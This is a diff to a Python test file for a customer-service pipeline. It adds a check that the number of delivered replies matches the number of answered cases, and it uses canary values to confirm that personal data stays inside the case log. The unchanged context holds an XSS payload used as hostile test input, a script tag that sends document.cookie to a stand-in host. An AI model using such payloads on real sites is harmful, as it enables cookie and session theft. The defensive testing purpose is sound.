@@ -34,6 +34,7 @@ CANARIES = [
     "4111 1111 1111 1111",
     "Zyxwvut Canarybird",
 ]
+ANSWERED = 20
 EVERY_EMOJI = "".join(chr(code) for code in range(0x1F300, 0x1FAFF))
 HOSTILE = {
     "script": "<script>fetch('http://example.com/'+document.cookie)</script><img src=x onerror=alert(1)>",
@@ -106,9 +107,13 @@ def test_nothing_personal_stands_outside_the_case_log(place: Workspace, tmp_path
     file = tmp_path / "arrived.jsonl"
     arrived[ARRIVES].to_json(file, orient="records", lines=True, date_format="iso")
     customer_service(str(file), str(tmp_path / "outbox"))
-    for case_id in questions.open_reviews(place.log, NAME)["case_id"].tolist()[:20]:
+    for case_id in questions.open_reviews(place.log, NAME)["case_id"].tolist()[:ANSWERED]:
         said = {"intent": "late order", "reply": f"Dear {CANARIES[4]}, it is on its way to {CANARIES[0]}."}
         decide(place, CUSTOMER_SERVICE, case_id, verdict="answer", reason="known", actor="agent", outcomes=said)
+    sent = lifecycle.deliver_effects(PATH, str(tmp_path / "outbox"), return_state=True)
+    assert sent.is_completed(), sent
+    replies = [path for path in (tmp_path / "outbox").glob("*.json") if json.loads(path.read_text())["name"] == "reply"]
+    assert len(replies) == ANSWERED
     for state in (lifecycle.check_drift(PATH, return_state=True), lifecycle.monitor(PATH, return_state=True)):
         assert state.is_completed(), state
     case_log = set(Settings().folder.glob("case_log.db*"))
